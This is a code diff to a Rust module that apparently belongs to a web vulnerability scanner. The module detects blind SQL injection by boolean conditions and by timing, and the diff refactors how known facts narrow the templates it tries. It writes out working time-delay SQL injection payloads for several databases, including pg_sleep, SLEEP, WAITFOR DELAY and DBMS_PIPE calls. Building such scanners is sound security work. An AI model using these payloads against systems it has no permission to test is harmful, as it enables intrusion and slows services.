@@ -1,6 +1,7 @@
 //! SQL by its effect alone: conditions, and waiting.
 
 use crate::checks::injection::choice::{CONDITIONS, Choice};
+use crate::checks::injection::facts::Facts;
 use crate::checks::{Bench, Entry};
 use crate::http::Method;
 use crate::point::{Place, Point};
@@ -73,15 +74,19 @@ const FAILING: &[&str] = &[
 pub(super) async fn by_choice(
     bench: &Bench<'_>,
     entry: &Entry,
-    point: &Point,
-    is_quiet: bool,
+    (point, known): (&Point, &Facts),
 ) -> Option<(String, Proof)> {
+    let is_quiet = known.is_quiet();
     let narrowing = if is_quiet { Vec::new() } else { places(point) };
     let adding = if changes(entry) { &[] } else { ADDING };
-    let failing = if is_quiet { &[] } else { FAILING };
+    // Where quotes that don't fit make no difference, an error shows as little.
+    let failing = if known.breaks { FAILING } else { &[] };
     let list: Vec<&str> = narrowing.iter().chain(adding).chain(failing).copied().collect();
     for template in &list {
-        if let Some(found) = choose(bench, entry, point, template, CONDITIONS).await {
+        // What fails on purpose is answered like a plain word where it does not fail.
+        let fails = ["abs(", "1/(", "UNION SELECT"].iter().any(|word| template.contains(word));
+        let beside = (!fails).then_some(known);
+        if let Some(found) = choose(bench, entry, (point, beside), template, CONDITIONS).await {
             return Some(found);
         }
     }
@@ -89,7 +94,7 @@ pub(super) async fn by_choice(
         return None;
     }
     for template in list.iter().take(4) {
-        if let Some(found) = choose(bench, entry, point, template, EQUAL).await {
+        if let Some(found) = choose(bench, entry, (point, Some(known)), template, EQUAL).await {
             return Some(found);
         }
     }
@@ -99,7 +104,7 @@ pub(super) async fn by_choice(
 async fn choose(
     bench: &Bench<'_>,
     entry: &Entry,
-    point: &Point,
+    (point, beside): (&Point, Option<&Facts>),
     template: &str,
     conditions: ([&str; 2], [&str; 2]),
 ) -> Option<(String, Proof)> {
@@ -107,7 +112,10 @@ async fn choose(
         let value = template.replace("{c}", condition).replace("{v}", &point.value);
         (entry.request.with(point, &value), value)
     });
-    choice.prove(bench, entry).await
+    match beside {
+        Some(known) => choice.prove_beside(bench, entry, (point, known)).await,
+        None => choice.prove(bench, entry).await,
+    }
 }
 
 /// Whether a request looks as if it changed rows: a condition that adds rows could then change all of them.
@@ -121,18 +129,24 @@ fn changes(entry: &Entry) -> bool {
     entry.request.method != Method::Get && parts.any(|part| words.contains(&part))
 }
 
+/// What waits within a string, in each database's own way; `{t}` are seconds.
+pub(super) const STRINGS: [&str; 5] = [
+    "{v}'||(SELECT pg_sleep({t}))::text||'",
+    "{v}'+(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)+'",
+    "{v}';SELECT pg_sleep({t})-- ",
+    "{v}';WAITFOR DELAY '0:0:{t}'-- ",
+    "{v}'||(WITH RECURSIVE zq(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM zq LIMIT 1+{t}*6000000) SELECT substr('',count(*)) FROM zq)||'",
+];
+
+/// The same, one for each database.
+pub(super) const LOGGED: [&str; 4] = [STRINGS[0], STRINGS[1], STRINGS[3], STRINGS[4]];
+
 /// What waits, in each database's own way; `{t}` are seconds.
-pub(super) fn waiting(point: &Point) -> Vec<&'static str> {
-    let strings = [
-        "{v}'||(SELECT pg_sleep({t}))::text||'",
-        "{v}'+(SELECT 1 FROM (SELECT SLEEP({t}))zq)+'",
-        "{v}';SELECT pg_sleep({t})-- ",
-        "{v}';WAITFOR DELAY '0:0:{t}'-- ",
-        "{v}'||(WITH RECURSIVE zq(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM zq LIMIT 1+{t}*6000000) SELECT substr('',count(*)) FROM zq)||'",
-    ];
+pub(super) fn waiting(point: &Point, known: &Facts) -> Vec<&'static str> {
+    let strings = STRINGS;
     let numbers = [
         "{v}-(SELECT 0 FROM (SELECT pg_sleep({t}))zq)",
-        "{v}-(SELECT 0 FROM (SELECT SLEEP({t}))zq)",
+        "{v}-(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)",
         "{v};SELECT pg_sleep({t})-- ",
         "{v};WAITFOR DELAY '0:0:{t}'-- ",
         "{v}-(WITH RECURSIVE zq(x) AS (SELECT 1 UNION ALL SELECT x+1 FROM zq LIMIT 1+{t}*6000000) SELECT 0*count(*) FROM zq)",
@@ -140,14 +154,22 @@ pub(super) fn waiting(point: &Point) -> Vec<&'static str> {
     let rare = [
         "{v}'||(SELECT DBMS_PIPE.RECEIVE_MESSAGE('zq',{t}) FROM DUAL)||'",
         "{v}');SELECT pg_sleep({t})-- ",
-        "{v}\"+(SELECT 1 FROM (SELECT SLEEP({t}))zq)+\"",
+        "{v}\"+(SELECT zr FROM (SELECT SLEEP({t}) AS zr)zq)+\"",
     ];
     let is_number = point.value.trim().parse::<f64>().is_ok();
     if matches!(point.place, Place::Header | Place::Path(_)) && !is_number {
         return strings.to_vec();
     }
     let mut list: Vec<&str> = if is_number { numbers.to_vec() } else { Vec::new() };
+    if known.matters {
+        // Conditions have been tried: what is left is one way for each database.
+        list.extend(LOGGED);
+        return list;
+    }
     list.extend(strings);
+    if known.echoes {
+        return list;
+    }
     list.extend(rare);
     if !is_number {
         list.push("(SELECT 1 FROM (SELECT pg_sleep({t}))zq)");
